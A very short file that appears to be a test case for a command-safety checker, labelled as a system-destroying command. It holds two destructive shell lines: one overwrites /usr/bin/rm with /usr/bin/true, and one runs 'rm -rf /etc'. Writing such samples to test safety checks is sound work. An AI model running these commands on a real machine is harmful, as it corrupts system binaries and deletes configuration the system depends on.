# what: a command that deletes the system is given
# rules: System destroyed
cp /usr/bin/true /usr/bin/rm
rm -rf /etc
